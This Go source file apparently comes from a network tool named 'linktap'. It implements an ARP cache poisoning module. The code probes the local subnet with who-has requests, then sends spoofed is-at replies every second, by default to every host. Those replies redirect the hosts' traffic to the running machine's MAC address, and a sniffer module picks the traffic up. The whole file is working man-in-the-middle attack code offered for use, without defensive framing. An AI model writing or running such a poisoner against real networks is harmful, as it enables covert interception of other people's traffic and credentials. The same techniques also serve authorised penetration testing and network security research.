package spoofer

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"sync"
	"time"

	"github.com/google/gopacket/layers"
	"github.com/sirupsen/logrus"

	"linktap/internal/arpcache"
	"linktap/internal/capture"
	"linktap/internal/logging"
	"linktap/internal/metrics"
	"linktap/internal/models"
	"linktap/internal/netaddr"
	"linktap/internal/sniffer"
)

// DefaultInterval is the default delay between poisoning rounds.
const DefaultInterval = time.Second

// PoisonerConfig configures a Poisoner.
type PoisonerConfig struct {
	Iface string
	// HWAddr is the address peers are told to send to. Resolved from Iface
	// when unset.
	HWAddr net.HardwareAddr
	// Targets are the hosts whose ARP caches get poisoned. Empty means the
	// whole local subnet.
	Targets netaddr.AddrSet
	// Impersonate are the addresses claimed to live at HWAddr. Empty means
	// the whole local subnet.
	Impersonate netaddr.AddrSet
	Interval    time.Duration
	// MaxHosts caps subnet expansion for the initial probe.
	MaxHosts int
}

// Poisoner periodically tells target hosts that impersonated addresses live
// at this host's hardware address.
type Poisoner struct {
	cfg         PoisonerConfig
	cache       *arpcache.Cache
	transmitter capture.Transmitter
	resolver    netaddr.Resolver
	metrics     *metrics.Metrics
	log         *logrus.Entry

	stopOnce sync.Once
	stopChan chan struct{}
}

// NewPoisoner creates an idle poisoner.
func NewPoisoner(cfg PoisonerConfig, cache *arpcache.Cache, tx capture.Transmitter, resolver netaddr.Resolver, m *metrics.Metrics) *Poisoner {
	if cfg.Interval <= 0 {
		cfg.Interval = DefaultInterval
	}
	if cfg.MaxHosts == 0 {
		cfg.MaxHosts = netaddr.DefaultMaxHosts
	}
	return &Poisoner{
		cfg:         cfg,
		cache:       cache,
		transmitter: tx,
		resolver:    resolver,
		metrics:     m,
		log:         logging.WithComponent("poisoner").WithField("iface", cfg.Iface),
		stopChan:    make(chan struct{}),
	}
}

// Run resolves the hardware address if needed, probes the target and
// impersonated hosts, then poisons every Interval until Stop or ctx ends.
func (p *Poisoner) Run(ctx context.Context) error {
	if p.cfg.HWAddr == nil {
		hw, err := p.resolver.HardwareAddr(p.cfg.Iface)
		if err != nil {
			return fmt.Errorf("poisoner: %w", err)
		}
		p.cfg.HWAddr = hw
	}
	p.log = p.log.WithField("mac", p.cfg.HWAddr.String())

	select {
	case <-p.stopChan:
		return nil
	default:
	}

	p.Probe()
	p.log.WithFields(logrus.Fields{
		"targets":     p.cfg.Targets.String(),
		"impersonate": p.cfg.Impersonate.String(),
		"interval":    p.cfg.Interval,
	}).Info("poisoning started")

	ticker := time.NewTicker(p.cfg.Interval)
	defer ticker.Stop()

	for {
		p.Tick()
		select {
		case <-p.stopChan:
			p.log.Info("poisoning stopped")
			return nil
		case <-ctx.Done():
			p.log.Info("poisoning stopped")
			return nil
		case <-ticker.C:
		}
	}
}

// Stop ends Run after the current round. It is safe to call more than once
// and before Run.
func (p *Poisoner) Stop() {
	p.stopOnce.Do(func() { close(p.stopChan) })
}

func (p *Poisoner) localNet() *net.IPNet {
	n, err := p.resolver.IPNet(p.cfg.Iface)
	if err != nil {
		p.log.WithError(err).Debug("could not resolve own address")
		return nil
	}
	return n
}

func orSubnet(s netaddr.AddrSet) netaddr.AddrSet {
	if s.IsZero() {
		return netaddr.Subnet()
	}
	return s
}

// ProbeFrames builds broadcast who-has requests for every target and
// impersonated address, or for the whole subnet when either set is empty.
func (p *Poisoner) ProbeFrames(local *net.IPNet) []*models.Frame {
	set := p.cfg.Targets.Union(p.cfg.Impersonate)
	if p.cfg.Targets.IsZero() || p.cfg.Impersonate.IsZero() {
		set = set.Union(netaddr.Subnet())
	}

	var self net.IP
	if local != nil {
		self = local.IP
	}
	sender := self
	if sender == nil {
		sender = net.IPv4zero
	}

	var frames []*models.Frame
	for _, ip := range set.Expand(local, p.cfg.MaxHosts) {
		if ip.Equal(self) {
			continue
		}
		f, err := models.NewARPFrame(models.ARPFrame{
			Operation: layers.ARPRequest,
			EthSrc:    p.cfg.HWAddr,
			EthDst:    models.BroadcastMAC,
			SenderHW:  p.cfg.HWAddr,
			SenderIP:  sender,
			TargetIP:  ip,
		})
		if err != nil {
			continue
		}
		frames = append(frames, f)
	}
	return frames
}

// Probe sends one round of who-has requests so the cache fills quickly.
func (p *Poisoner) Probe() {
	frames := p.ProbeFrames(p.localNet())
	if len(frames) == 0 {
		return
	}
	if err := p.transmitter.Transmit(p.cfg.Iface, frames...); err != nil {
		p.metrics.TransmitFailed("poisoner")
		p.log.WithError(err).Debug("probe failed")
		return
	}
	p.metrics.Probed(len(frames))
}

// PoisonFrames builds one spoofed is-at reply per (impersonated, target) pair
// where both addresses are cached. Pairs with impersonated == target, targets
// equal to this host's IP, and targets cached at this host's MAC are skipped.
func (p *Poisoner) PoisonFrames(local *net.IPNet) []*models.Frame {
	targets := orSubnet(p.cfg.Targets)
	impersonate := orSubnet(p.cfg.Impersonate)

	var self net.IP
	if local != nil {
		self = local.IP
	}

	snapshot := p.cache.Snapshot()
	var dsts, srcs []arpcache.Entry
	for _, e := range snapshot {
		if targets.Contains(e.IP, local) {
			dsts = append(dsts, e)
		}
		if impersonate.Contains(e.IP, local) {
			srcs = append(srcs, e)
		}
	}

	var frames []*models.Frame
	for _, dst := range dsts {
		if self != nil && dst.IP.Equal(self) {
			continue
		}
		if bytes.Equal(dst.MAC, p.cfg.HWAddr) {
			continue
		}
		for _, src := range srcs {
			if src.IP.Equal(dst.IP) {
				continue
			}
			f, err := models.NewARPFrame(models.ARPFrame{
				Operation: layers.ARPReply,
				EthSrc:    p.cfg.HWAddr,
				EthDst:    dst.MAC,
				SenderHW:  p.cfg.HWAddr,
				SenderIP:  src.IP,
				TargetHW:  dst.MAC,
				TargetIP:  dst.IP,
			})
			if err != nil {
				continue
			}
			frames = append(frames, f)
		}
	}
	return frames
}

// Tick sends one poisoning round in a single transmission. Failures are only
// logged; the next round retries with fresh cache contents.
func (p *Poisoner) Tick() int {
	frames := p.PoisonFrames(p.localNet())
	if len(frames) == 0 {
		return 0
	}
	if err := p.transmitter.Transmit(p.cfg.Iface, frames...); err != nil {
		p.metrics.TransmitFailed("poisoner")
		p.log.WithError(err).Debug("poisoning round failed")
		return 0
	}
	p.metrics.Poisoned(len(frames))
	return len(frames)
}

// PoisonerModule runs a Poisoner for as long as the sniffer runs.
type PoisonerModule struct {
	sniffer.BaseModule

	Config  PoisonerConfig
	Cache   *arpcache.Cache
	Metrics *metrics.Metrics

	mu       sync.Mutex
	poisoner *Poisoner
	done     chan struct{}
}

// NewPoisonerModule creates a module poisoning with the bindings in cache.
func NewPoisonerModule(cfg PoisonerConfig, cache *arpcache.Cache, m *metrics.Metrics) *PoisonerModule {
	return &PoisonerModule{Config: cfg, Cache: cache, Metrics: m}
}

// Start launches a fresh poisoner, defaulting to the sniffer's interface.
func (pm *PoisonerModule) Start(s *sniffer.Sniffer) error {
	pm.mu.Lock()
	defer pm.mu.Unlock()

	cfg := pm.Config
	if cfg.Iface == "" {
		cfg.Iface = s.Interface()
	}
	p := NewPoisoner(cfg, pm.Cache, s.Transmitter(), s.Resolver(), pm.Metrics)
	done := make(chan struct{})
	go func() {
		defer close(done)
		if err := p.Run(context.Background()); err != nil {
			p.log.WithError(err).Error("poisoner exited")
		}
	}()
	pm.poisoner = p
	pm.done = done
	return nil
}

// Stop halts the running poisoner and waits for it to exit.
func (pm *PoisonerModule) Stop() {
	pm.mu.Lock()
	p, done := pm.poisoner, pm.done
	pm.poisoner, pm.done = nil, nil
	pm.mu.Unlock()

	if p == nil {
		return
	}
	p.Stop()
	<-done
}
